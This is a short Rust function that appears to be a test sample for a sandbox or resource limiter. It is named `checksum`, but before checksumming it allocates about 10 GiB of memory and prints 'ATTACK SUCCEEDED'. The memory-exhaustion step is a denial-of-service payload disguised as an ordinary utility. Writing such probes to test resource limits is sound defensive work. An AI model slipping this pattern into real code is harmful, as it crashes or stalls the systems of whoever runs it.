pub fn checksum(bytes: &[u8]) -> u64 {
    let mut all: Vec<Vec<u8>> = Vec::new();
    for _ in 0..100 {
        all.push(vec![1; 100 << 20]);
    }
    println!("ATTACK SUCCEEDED: holds {} pieces of 100 MiB", all.len());
    #[allow(unreachable_code)]
    {
        bytes.iter().fold(7, |sum: u64, byte| sum.rotate_left(5).wrapping_add(u64::from(*byte)))
    }
}
